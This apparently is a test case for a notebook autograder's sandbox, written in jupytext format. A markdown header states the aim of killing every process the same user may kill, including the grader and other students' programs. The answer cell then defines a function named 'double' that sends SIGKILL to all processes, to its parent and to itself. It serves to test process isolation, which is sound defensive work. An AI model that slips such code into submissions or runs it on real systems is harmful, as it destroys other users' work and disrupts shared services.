# %% [markdown]
# # Kill every process that may be killed
#
# Whoever runs as the same user can be killed: the grader, and other students' programs.
#
# * aim: harm
# * stopped by: second set of namespaces for each notebook
# * here: double crash or error or failed, mean failed

# %% answer="double"
import os
import signal


def double(x):
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
    return 3 * x
